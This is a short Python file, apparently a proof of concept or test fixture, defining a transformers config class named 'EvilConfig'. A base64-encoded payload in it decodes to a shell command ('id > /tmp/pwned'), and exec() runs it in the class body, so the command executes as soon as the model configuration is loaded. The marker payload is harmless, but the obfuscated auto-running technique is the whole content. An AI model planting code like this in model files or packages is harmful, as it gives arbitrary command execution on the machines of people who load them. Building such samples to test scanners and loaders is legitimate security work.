import base64
from transformers import PretrainedConfig

_c = base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQgPiAvdG1wL3B3bmVkJykK")


class EvilConfig(PretrainedConfig):
    model_type = "evil"
    exec(_c)

    def __init__(self, hidden_size=64, vocab_size=1000, **kwargs):
        self.hidden_size = hidden_size
        self.vocab_size = vocab_size
        super().__init__(**kwargs)
